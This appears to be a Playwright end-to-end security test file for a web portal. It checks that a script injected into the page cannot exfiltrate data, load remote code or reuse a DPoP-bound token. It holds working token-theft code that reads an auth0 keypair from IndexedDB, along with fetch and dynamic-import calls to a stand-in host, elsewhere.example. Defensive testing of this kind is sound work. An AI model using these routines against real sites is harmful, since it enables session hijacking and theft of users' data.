import type { Page } from '@playwright/test'
import { createPageSession, expect, fillSignIn, test } from '@portal/e2e'

/** The token that a script finds, and a proof that it makes with the key: the key itself it cannot read. */
const steal = (page: Page) =>
  page.evaluate(async (source) => {
    const session = new Function(`return (${source})()`)()
    const database = await new Promise<IDBDatabase>((resolve) => {
      const opening = indexedDB.open('auth0-spa-js')
      opening.onsuccess = () => resolve(opening.result)
    })
    const reading = database.transaction('keypair').objectStore('keypair').getAll()
    await new Promise((resolve) => {
      reading.onsuccess = resolve
    })
    const [{ privateKey }] = reading.result
    const key = await crypto.subtle.exportKey('jwk', privateKey).catch(({ name }) => name)
    const call = { method: 'GET', url: `${location.origin}/bff/api/userProfile` }
    return { headers: await session.authorize(undefined, call), call, key }
  }, String(createPageSession))

/** What a script of a remote tries, and how each try ends: a status, or the name of an error. */
async function tryAll([headers, call]: readonly [Record<string, string>, { url: string }]) {
  const elsewhere = 'https://elsewhere.example/'
  const outcome = (attempt: () => unknown) =>
    new Promise<unknown>((resolve) => {
      // Not in the task of the test, which the policy does not bind.
      setTimeout(async () => {
        try {
          resolve(await attempt())
        } catch (error) {
          resolve((error as Error).name)
        }
      })
    })
  return {
    ownCall: await outcome(async () => (await fetch(call.url, { headers })).status),
    fetchElsewhere: await outcome(() => fetch(elsewhere)),
    importElsewhere: await outcome(() => import(`${elsewhere}code.js`)),
    compile: await outcome(() => new Function('return 1')()),
    scriptElement: await outcome(() =>
      Object.assign(document.createElement('script'), { src: `${elsewhere}code.js` }),
    ),
    serviceWorker: await outcome(() => navigator.serviceWorker.register('/worker.js')),
  }
}

test('a script in the page calls the BFF around its client, and neither sends data elsewhere, nor loads code, nor stays', async ({
  page,
  signInAs,
  expectPageErrors,
}) => {
  await signInAs('anna.becker@post.example')
  await page.goto('/personal-data')
  await expect(page.getByRole('region', { name: 'Name' })).toContainText('Anna Becker')
  const { headers, call } = await steal(page)
  expect(await page.evaluate(tryAll, [headers, call] as const)).toEqual({
    ownCall: 200,
    fetchElsewhere: 'TypeError',
    importElsewhere: 'TypeError',
    compile: 'EvalError',
    scriptElement: 'TypeError',
    serviceWorker: 'TypeError',
  })
  expectPageErrors(/violate|requires 'TrustedScript/)
})

test('a token that a script copies out of the page is worth nothing elsewhere', async ({
  page,
  newPerson,
  request,
}) => {
  // In a browser that has made its key itself.
  await page.goto('/personal-data')
  await fillSignIn(page, (await newPerson('anna')).email)
  await expect(page.getByRole('region', { name: 'Name' })).toBeVisible()
  const { headers, call, key } = await steal(page)
  expect(key).toBe('InvalidAccessError')
  const statusWith = async (stolen: Record<string, string>, url = call.url) =>
    (await request.get(url, { headers: stolen })).status()
  const { authorization, dpop } = headers
  const token = authorization.replace('DPoP ', '')
  expect(await statusWith({ authorization: `Bearer ${token}` })).toBe(401)
  expect(await statusWith({ authorization })).toBe(401)
  // A proof is good once, and for its call.
  expect(await statusWith({ authorization, dpop })).toBe(200)
  expect(await statusWith({ authorization, dpop })).toBe(401)
  const another = (await steal(page)).headers
  expect(await statusWith(another, call.url.replace('userProfile', 'customerProfile'))).toBe(401)
})
